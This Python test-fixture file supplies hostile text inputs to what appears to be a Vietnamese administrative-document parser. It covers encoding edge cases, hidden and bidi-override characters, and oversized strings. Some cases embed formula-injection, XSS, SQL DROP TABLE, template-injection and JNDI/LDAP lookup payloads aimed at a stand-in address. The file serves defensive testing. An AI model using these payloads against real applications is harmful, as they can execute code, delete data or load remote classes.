"""Hostile plain texts: encodings, characters that hide, baits for formulas, HTML and regular expressions."""

# ruff: noqa: E501 (a file is told in one line)

from __future__ import annotations

import unicodedata

from hostile_case import Case, ok, rejected
from pdf_bytes import LINES

_PLAN = "\n".join(LINES)


def _plan(*more: str) -> bytes:
    return "\n".join((_PLAN, *more)).encode("utf-8", "surrogatepass")


ENCODINGS = (
    rejected("txt/khoang-trang.txt", "empty", b" \n\t\r\n   \n"),
    rejected("txt/chi-bom.txt", "empty", b"\xef\xbb\xbf"),
    rejected("txt/chi-ky-tu-an.txt", "empty", "\u200b\u200e\u2060\ufeff\n\u00ad".encode()),
    rejected("txt/nhi-phan.txt", "unsupported", bytes(range(256)) * 50),
    rejected("txt/toan-khong.txt", "unsupported", bytes(5000)),
    ok("txt/utf-16.txt", _PLAN.encode("utf-16")),
    ok("txt/utf-16-khong-bom.txt", _PLAN.encode("utf-16-le")),
    ok("txt/to-hop-nfd.txt", unicodedata.normalize("NFD", _PLAN).encode()),
    ok("txt/xuong-dong-cr.txt", _PLAN.replace("\n", "\r").encode()),
    ok("txt/tach-dong-la.txt", _PLAN.replace("\n", "\u2028").encode()),
    ok("txt/html-ten-pdf.pdf", _plan("<b>chữ</b>")),
    ok("txt/ma-pdf-trong-chu.txt", _plan(" " * 1500, "%PDF-1.7 chỉ là chữ")),
)

CHARACTERS = (
    ok("txt/ky-tu-dieu-khien.txt", _plan("chữ\x01\x02\x1b[31m\x07\x7f có mã")),
    ok("txt/dao-chieu.txt", _plan("2. Giao Phòng \u202eết hnik\u202c\u2066 rà soát\u2069.")),
    ok("txt/khong-rong.txt", _plan("2. Gi\u200bao Ph\u200dòng Kinh tế rà so\u00adát.")),
    ok("txt/emoji.txt", _plan("2. Giao Phòng Kinh tế 👩‍👩‍👧‍👦🏳️‍🌈 rà soát.")),
    ok("txt/ky-tu-rieng.txt", _plan("\ue000\uf8ff\U000f0000 nội dung")),
    ok("txt/dau-chong.txt", _plan("2. a" + "\u0301" * 20_000)),
    ok(
        "txt/cong-thuc.txt",
        _plan(
            '2. =HYPERLINK("http://192.0.2.1";"x") Giao Phòng Kinh tế rà soát.',
            "- =cmd|' /C calc'!A0",
            "- +1+1",
            "- @SUM(1)",
            "- -1+1",
        ),
    ),
    ok(
        "txt/ma-html.txt",
        _plan('2. Giao Phòng <script>alert(1)</script> "><img src=x onerror=alert(1)> Kinh tế rà soát.'),
    ),
    ok(
        "txt/ma-sql.txt",
        _plan('2. Giao Phòng Kinh tế\'); DROP TABLE tasks;-- rà soát; "{{7*7}}" ${jndi:ldap://192.0.2.1}'),
    ),
    ok("txt/dau-ngoac-kep.txt", _plan('2. Giao "Phòng ""Kinh tế"""\t;,|rà soát.')),
)

BAITS = (
    ok("txt/mot-chu-dai.txt", _plan("a" * 400_000)),
    ok("txt/ngoac-mo.txt", _plan("(" * 40_000)),
    ok("txt/ngoac-dong-mo.txt", _plan("()[]{}" * 8_000)),
    ok("txt/cham.txt", _plan("." * 200_000)),
    ok("txt/gach.txt", _plan("-" * 100_000, "- " * 50_000)),
    ok("txt/so-gach-cheo.txt", _plan("Số: " + "1/" * 40_000)),
    ok("txt/so-hieu-lap.txt", _plan("số " + "12/KH-UBND, " * 2_000)),
    ok("txt/so-hieu-dai.txt", _plan("Căn cứ Kế hoạch số 1/" + "A" * 60_000 + "-" * 20_000)),
    ok("txt/ngay-lap.txt", _plan("ngày 1 tháng " * 10_000)),
    ok("txt/ngay-cham.txt", _plan("An Sơn Thượng, ngày " + "." * 40_000 + " tháng " + "…" * 40_000)),
    ok("txt/truoc-ngay.txt", _plan("2. Giao Phòng Kinh tế rà soát trước " + "ngày " * 20_000)),
    ok("txt/phong-lap.txt", _plan("2. Giao " + "Phòng Kinh tế, " * 4_000 + "rà soát.")),
    ok("txt/hoa-lap.txt", _plan("ỦY BAN NHÂN DÂN " * 5_000)),
    ok("txt/va-lap.txt", _plan("2. Giao Phòng Văn hóa " + "và " * 30_000)),
    ok("txt/danh-so-sau.txt", _plan("1." * 5_000 + " Giao Phòng Kinh tế rà soát.")),
    ok("txt/danh-so-lon.txt", _plan("99999999999999999999. Giao Phòng Kinh tế rà soát.", "MMMMMMMMMMMMMMMMMMMM. Giao Phòng Kinh tế.")),
    ok("txt/so-tran.txt", _plan("Căn cứ Kế hoạch số 99999999999999999999999/KH-UBND ngày 99/99/99999;", "2. Đạt 1" + "0" * 5_000 + "% trước ngày 31/02/2026, trong 99999999999 ngày, quý XIV năm 0000.")),
    ok("txt/tong-tran.txt", _plan("Tổng số: " + "9" * 400 + " hồ sơ, trong đó: " + "1e999 đúng hạn, " * 50)),
    ok("txt/khoang-trang-dai.txt", _plan("2. Giao" + " " * 60_000 + "Phòng Kinh tế" + "\t" * 20_000 + "rà soát.")),
    ok("txt/cot-gia.txt", _plan("|" * 20_000, ("| a " * 500 + "|\n") * 20)),
    ok("txt/nhieu-dong.txt", _plan("\n" * 60_000, "2. Giao Phòng Kinh tế rà soát.")),
    ok("txt/noi-nhan-dai.txt", _plan("Nơi nhận:", *["- Như trên;"] * 5_000)),
    ok("txt/chu-viet-tat.txt", _plan("2. " + "UBND-HĐND-UBMTTQ-" * 4_000)),
    ok("txt/dau-hai-cham.txt", _plan("Thời hạn: " * 8_000)),
)  # fmt: skip

SECRETS = (
    rejected("mat/mat.txt", "secret", _plan().replace("Số: 5".encode(), "MẬT\nSố: 5".encode())),
    rejected("mat/toi-mat.txt", "secret", b"T\xe1\xbb\x90I M\xe1\xba\xacT\n" + _plan()),
    ok("mat/van-ban-mat.txt", _plan("2. Phòng Kinh tế quản lý văn bản mật, bảo mật thông tin; tài liệu TỐI MẬT.")),
)

CASES: tuple[Case, ...] = (*ENCODINGS, *CHARACTERS, *BAITS, *SECRETS)
